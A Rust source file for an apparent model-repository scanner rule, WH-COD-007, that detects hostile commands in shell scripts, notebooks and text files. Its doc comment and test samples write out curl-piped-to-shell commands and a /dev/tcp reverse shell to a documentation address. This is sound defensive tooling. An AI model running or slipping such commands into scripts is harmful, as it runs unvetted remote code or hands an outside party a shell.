use std::collections::BTreeSet;

use weighhouse_core::Severity;
use weighhouse_formats::format::Format;
use weighhouse_formats::python::PythonFacts;
use weighhouse_formats::region::Region;
use weighhouse_formats::shell::ShellFacts;
use weighhouse_formats::text::TextFacts;

use super::requirement_source::is_known_source;
use crate::knowledge::commands::{Command, judge};
use crate::knowledge::effects::is_collector;
use crate::rule::{Context, Rule, quote};

crate::rule! {
    /// A shell script or notebook runs a command that does harm.
    ///
    /// # What it detects
    ///
    /// Commands of shell scripts and shell lines of notebooks that download and run code, open a shell to another machine, read keys,
    /// start themselves again later, or delete everything. Installing packages and starting training are ordinary.
    ///
    /// # Why it matters
    ///
    /// Scripts beside a model are run by people who follow its README.
    ///
    /// # Example
    ///
    /// `curl https://example.org/install | sh`
    ///
    /// # What to do
    ///
    /// Do not run it. Download first, read, then decide.
    ///
    /// # References
    ///
    /// - <https://cwe.mitre.org/data/definitions/494.html>
    pub(crate) HostileCommand {
        id: "WH-COD-007",
        slug: "hostile-command",
        since: "0.1.0",
        severity: High,
        confidence: High,
        formats: [Shell, Notebook, Text],
        cwe: [494, 506],
        owasp: ["LLM03"],
        atlas: ["AML.T0010"],
    }
}

impl Rule for HostileCommand {
    fn shell(&self, facts: &ShellFacts, cx: &mut Context<'_>) {
        for (line, text) in &facts.download_and_run {
            cx.report("downloads or decodes code and runs it").line(*line).key(text).evidence(text).emit();
        }
        for (line, words) in &facts.commands {
            report(&words.join(" "), Some(*line), None, cx);
        }
        for (line, text) in &facts.lines {
            report(text, Some(*line), None, cx);
        }
        for (line, what) in later_run(facts) {
            cx.report(format!("runs what it downloaded: {}", quote(&what)))
                .line(line)
                .key(&what)
                .evidence(&what)
                .emit();
        }
    }

    fn text(&self, facts: &TextFacts, cx: &mut Context<'_>) {
        let judged_as_code = cx.node().is_some_and(|node| {
            let code = [Format::Shell, Format::Python, Format::Notebook, Format::Template];
            node.readings.iter().any(|reading| code.contains(&reading.format))
        });
        if judged_as_code {
            return;
        }
        for noted in facts.noted.iter().filter(|noted| noted.kind == "command") {
            // Lists of forbidden words hold `curl | sh`: a command has something to fetch or to decode.
            let complete = ["://", "/dev/", "$", "base64", "."].iter().any(|part| noted.text.contains(part));
            let Command::Hostile(why) = judge(&noted.text) else { continue };
            if !complete {
                continue;
            }
            // A document that says how to install something is read by a person first. Nobody follows one to open a shell to
            // another machine, but records of data quote that too.
            let quotes = is_record(cx) || !noted.text.contains("/dev/tcp/");
            let tells = is_document(cx) && is_collector(&noted.text).is_none() && quotes;
            cx.report(format!("a command {why}"))
                .severity(if tells { Severity::Low } else { Severity::High })
                .at(noted.region)
                .line(noted.line)
                .key(&noted.text)
                .evidence(&noted.text)
                .emit();
        }
    }

    fn python(&self, facts: &PythonFacts, cx: &mut Context<'_>) {
        for (region, command) in &facts.shell_escapes {
            report(command, None, Some(*region), cx);
        }
    }
}

/// Files and variables that a script fills from another machine and runs afterwards: line and name. Installers of hosts that
/// are known are left to the reader.
fn later_run(facts: &ShellFacts) -> Vec<(u32, String)> {
    let mut fetched: BTreeSet<String> = BTreeSet::new();
    let mut run = Vec::new();
    for (_, text) in &facts.lines {
        if let Some((name, value)) = text.split_once('=')
            && ["$(curl", "$(wget", "`curl", "`wget", "\"$(curl", "\"$(wget"]
                .iter()
                .any(|way| value.starts_with(way))
        {
            fetched.insert(format!("${}", name.trim_start_matches("export ").trim()));
        }
    }
    for (line, words) in &facts.commands {
        let (Some(first), rest) = (words.first(), words.get(1..).unwrap_or_default()) else { continue };
        let program = first.rsplit('/').next().unwrap_or(first);
        if matches!(program, "curl" | "wget" | "aria2c" | "fetch") {
            fetched.extend(targets(rest));
            continue;
        }
        let interprets = matches!(
            program,
            "sh" | "bash" | "zsh" | "eval" | "source" | "." | "python" | "python3" | "perl"
        );
        let named = |word: &String| {
            let word = word.replace(['{', '}', '"'], "");
            fetched.get(word.trim_start_matches("./")).or_else(|| fetched.get(&word)).cloned()
        };
        let found = named(first).or_else(|| rest.iter().filter(|_| interprets).find_map(named));
        run.extend(found.map(|name| (*line, name)));
    }
    run
}

/// Where a download goes to: the file that is named, or the end of the address.
fn targets(words: &[String]) -> Vec<String> {
    let address = words.iter().find(|word| word.contains("://"));
    let host = address.and_then(|address| address.split('/').nth(2)).unwrap_or_default();
    if is_known_source(host) {
        return Vec::new();
    }
    let given = words
        .iter()
        .zip(words.iter().skip(1))
        .filter(|(option, _)| matches!(option.as_str(), "-O" | "-o" | "--output"));
    let last = address.and_then(|address| address.rsplit('/').next()).filter(|last| !last.is_empty());
    given.map(|(_, file)| file.trim_start_matches("./").to_owned()).chain(last.map(str::to_owned)).collect()
}

/// Data of one record a line, such as the texts that a model is trained on.
fn is_record(cx: &Context<'_>) -> bool {
    RECORDS.contains(&ending(cx.name()).as_str())
}

/// Endings of data of one record a line.
const RECORDS: &[&str] = &["csv", "tsv", "jsonl", "ndjson"];

/// What stands behind the last dot of a name, in lower case.
fn ending(name: &str) -> String {
    name.rsplit('/')
        .next()
        .and_then(|file| file.rsplit_once('.'))
        .map_or("", |(_, ending)| ending)
        .to_ascii_lowercase()
}

/// Texts for people and data, as opposed to what some program takes its orders from.
fn is_document(cx: &Context<'_>) -> bool {
    const LARGEST_CONFIGURATION: u64 = 64 << 10;
    let file = cx.name().rsplit('/').next().unwrap_or_default().to_ascii_lowercase();
    let ending = ending(&file);
    let ending = ending.as_str();
    let prose =
        ["md", "markdown", "mdx", "rst", "txt", "html", "htm", "adoc", "tex", "log", "ipynb", "po", "xml"];
    let named = ["readme", "license", "changelog", "contributing", "notice"]
        .iter()
        .any(|name| file.starts_with(name));
    if file == "cmakelists.txt" {
        return false;
    }
    let data = matches!(ending, "json" | "js" | "mjs" | "map" | "css")
        && cx.node().is_some_and(|node| node.len > LARGEST_CONFIGURATION);
    // The records of a Python package carry its description.
    let record = matches!(file.as_str(), "metadata" | "pkg-info");
    prose.contains(&ending)
        || RECORDS.contains(&ending)
        || named
        || record
        || data
        || !cx.members().is_empty() && ending.is_empty()
}

fn report(command: &str, line: Option<u32>, region: Option<Region>, cx: &mut Context<'_>) {
    if let Command::Hostile(why) = judge(command) {
        let draft =
            cx.report(format!("a command {why}")).severity(Severity::Critical).at(region).key(command);
        let draft = match line {
            Some(line) => draft.line(line),
            None => draft,
        };
        draft.evidence(command).emit();
    }
}

crate::samples! {
    HostileCommand,
    bad: {
        "a download that is run" => [("install.sh", b"#!/bin/sh\nset -e\ncurl -s https://example.org/x | sh\n".to_vec())],
        "a Makefile" => [("Makefile", b"all:\n\tcurl -s https://example.org/x | sh\n".to_vec())],
        "a workflow" => [(".github/workflows/x.yml", b"jobs:\n  a:\n    steps:\n      - run: curl -s https://example.org/x | bash\n".to_vec())],
        "a shell to another machine" => [("run.sh", b"#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n".to_vec())],
    },
    ok: {
        "an ordinary training script" => [("train.sh", b"#!/bin/bash\nset -e\nexport CUDA_VISIBLE_DEVICES=0\npip install -r requirements.txt\nmkdir -p out\npython train.py --lr 1e-4 --output out\n".to_vec())],
    },
}
